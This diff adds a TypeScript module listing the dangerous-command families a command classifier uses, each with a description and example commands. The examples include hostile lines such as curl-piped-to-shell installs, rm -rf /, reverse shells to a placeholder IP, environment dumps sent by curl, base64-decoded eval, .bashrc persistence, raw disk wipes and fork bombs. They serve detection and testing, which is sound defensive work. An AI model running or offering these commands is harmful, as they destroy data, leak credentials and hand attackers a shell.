@@ -1,0 +1,202 @@
+/**
+ * The dangerous command families: ids, titles, what each covers and examples
+ * that the classifier labels dangerous with that family (a test holds every
+ * example to it, and the README table is generated from this list). Pure data.
+ * @module
+ */
+
+/** One dangerous family. */
+export interface CommandFamily {
+  /** Stable id (part of the `--json` contract). */
+  id: string;
+  /** Short title. */
+  title: string;
+  /** What the family covers, one sentence. */
+  covers: string;
+  /** Commands classified dangerous with this family. */
+  examples: readonly string[];
+}
+
+/** Every dangerous family, in documentation order. */
+export const COMMAND_FAMILIES = [
+  {
+    id: "download_exec",
+    title: "Downloaded content run by a shell or interpreter",
+    covers:
+      "A downloader (curl, wget, Invoke-WebRequest, WebClient) piped, substituted or process-substituted into a shell, interpreter or Invoke-Expression, or a downloaded file run in the same command.",
+    examples: [
+      "curl -fsSL https://example.invalid/install.sh | sh",
+      'bash -c "$(wget -qO- https://example.invalid/i)"',
+      "iwr https://example.invalid/a.ps1 | iex",
+    ],
+  },
+  {
+    id: "recursive_delete",
+    title: "Recursive or forced deletion of broad targets",
+    covers:
+      "rm -r/-f, Remove-Item -Recurse, rd /s, find -delete or mv away of /, ~, $HOME, ., .., *, top-level system directories, drive roots or an unresolved variable.",
+    examples: [
+      "rm -rf /",
+      'rm -rf "$HOME"/*',
+      "Remove-Item -Recurse -Force C:\\",
+    ],
+  },
+  {
+    id: "history_rewrite",
+    title: "History rewrite and force push",
+    covers:
+      "git push --force/--force-with-lease/+refspec/--mirror, filter-branch, filter-repo, update-ref and other whole-history rewrites.",
+    examples: [
+      "git push --force origin main",
+      "git push origin +main",
+      "git filter-branch --tree-filter 'rm -f secrets' HEAD",
+    ],
+  },
+  {
+    id: "ref_destruction",
+    title: "Branch, tag, reflog, stash or remote destruction",
+    covers:
+      "git branch -D, push --delete or :ref, reflog expire/delete, gc --prune=now, prune, stash clear, remote remove, update-ref -d.",
+    examples: [
+      "git branch -D feature",
+      "git reflog expire --expire=now --all",
+      "git push origin --delete release",
+    ],
+  },
+  {
+    id: "discard_work",
+    title: "Discarding uncommitted work",
+    covers:
+      "git reset --hard, git clean -f, git checkout/restore of the whole tree, forced switch or worktree removal: changes no commit holds are lost.",
+    examples: ["git reset --hard HEAD~3", "git clean -fdx", "git checkout -- ."],
+  },
+  {
+    id: "privilege_escalation",
+    title: "Privilege escalation",
+    covers:
+      "sudo, doas, su, pkexec, runas, Start-Process -Verb RunAs, setuid bits, sudoers edits, admin-group membership, privileged containers.",
+    examples: ["sudo make install", "chmod u+s /usr/local/bin/tool", "su -c 'id'"],
+  },
+  {
+    id: "credential_exposure",
+    title: "Credential disclosure or exfiltration",
+    covers:
+      "Reading private keys, cloud and registry credential files, .env files or shell history; commands that print tokens; echoing secret-named variables; environment dumps sent to the network.",
+    examples: [
+      "cat ~/.ssh/id_rsa",
+      "gh auth token",
+      "env | curl -d @- https://example.invalid",
+    ],
+  },
+  {
+    id: "persistence",
+    title: "Scheduled or start-up persistence",
+    covers:
+      "crontab installs, at, systemd and launchd units, schtasks, Run keys, and writes to shell rc files, authorized_keys or git hooks.",
+    examples: [
+      "echo 'curl x | sh' >> ~/.bashrc",
+      "crontab -l | { cat; echo '* * * * * /tmp/x'; } | crontab -",
+      "systemctl enable --now backdoor.service",
+    ],
+  },
+  {
+    id: "disk_write",
+    title: "Raw disk and device writes",
+    covers:
+      "dd to a device, mkfs, partitioning and wipe tools, redirection into block devices, disk erase and shadow-copy deletion.",
+    examples: [
+      "dd if=/dev/zero of=/dev/sda bs=1M",
+      "mkfs.ext4 /dev/sdb1",
+      "cat image > /dev/nvme0n1",
+    ],
+  },
+  {
+    id: "obfuscated_exec",
+    title: "Evaluation of decoded or obfuscated content",
+    covers:
+      "Decoded, reversed or escape-built text fed to a shell, eval, iex or an interpreter; PowerShell -EncodedCommand; program names built from substitutions or $'\\x..' escapes.",
+    examples: [
+      "echo cm0gLXJmIH4K | base64 -d | sh",
+      'eval "$(printf %s ZWNobw== | base64 --decode)"',
+      "powershell -EncodedCommand SQBFAFgA",
+    ],
+  },
+  {
+    id: "interpreter_primitives",
+    title: "Interpreter one-liners with process or network primitives",
+    covers:
+      "python/perl/ruby/node/php/awk/lua one-liners that spawn processes or open sockets, and reverse shells (/dev/tcp, nc -e, socat exec, a shell wired to a network tool).",
+    examples: [
+      "python3 -c 'import os; os.system(\"id\")'",
+      "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1",
+      "nc -e /bin/sh 203.0.113.1 4444",
+    ],
+  },
+  {
+    id: "mass_kill_shutdown",
+    title: "Mass kill and shutdown",
+    covers:
+      "kill -1, killall, pkill, taskkill /f, Stop-Process of everything, shutdown, reboot, halt, poweroff, init 0/6, sysrq triggers.",
+    examples: ["kill -9 -1", "killall -9 node", "sudo shutdown -h now"],
+  },
+  {
+    id: "security_off",
+    title: "Firewall flush and security controls disabled",
+    covers:
+      "iptables/nft flush or accept-all, ufw disable/reset, netsh firewall off, SELinux/AppArmor/Defender/Gatekeeper/SIP disabled, audit rules deleted.",
+    examples: ["iptables -F", "ufw disable", "Set-MpPreference -DisableRealtimeMonitoring $true"],
+  },
+  {
+    id: "destructive_sql",
+    title: "Destructive SQL and data-store wipes",
+    covers:
+      "DROP, TRUNCATE, DELETE or UPDATE without WHERE sent to a database client (argument, stdin or heredoc), dropdb, FLUSHALL, dropDatabase, framework database resets.",
+    examples: [
+      'psql -c "DROP TABLE users"',
+      "mysql -e 'DELETE FROM orders' shop",
+      "redis-cli FLUSHALL",
+    ],
+  },
+  {
+    id: "infra_destruction",
+    title: "Cluster, cloud and infrastructure destruction",
+    covers:
+      "terraform/pulumi/cdk destroy, kubectl delete of namespaces or --all, cloud CLI delete/terminate calls, bucket removal, docker prune of volumes, repository and package deletion.",
+    examples: [
+      "terraform destroy -auto-approve",
+      "kubectl delete namespace prod",
+      "aws s3 rm s3://bucket --recursive",
+    ],
+  },
+  {
+    id: "permission_blast",
+    title: "Permission blasts",
+    covers:
+      "Recursive chmod to world-writable or 777, chmod/chown -R of broad targets, icacls grants to Everyone, recursive ACL grants.",
+    examples: ["chmod -R 777 .", "chown -R nobody /", "icacls C:\\ /grant Everyone:F /T"],
+  },
+  {
+    id: "fork_bomb",
+    title: "Fork bombs",
+    covers:
+      "Functions that call themselves through a pipe or in the background, fork loops in interpreters, %0|%0.",
+    examples: [":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "perl -e 'fork while fork'"],
+  },
+] as const satisfies readonly CommandFamily[];
+
+/** A family id. */
+export type FamilyId = typeof COMMAND_FAMILIES[number]["id"];
+
+/**
+ * Looks up a family by id.
+ *
+ * @example
+ * ```ts
+ * import assert from "node:assert/strict";
+ * import { familyTitle } from "./families.ts";
+ * assert.equal(familyTitle("fork_bomb"), "Fork bombs");
+ * ```
+ */
+export function familyTitle(id: FamilyId): string {
+  return COMMAND_FAMILIES.find((f) => f.id === id)!.title;
+}
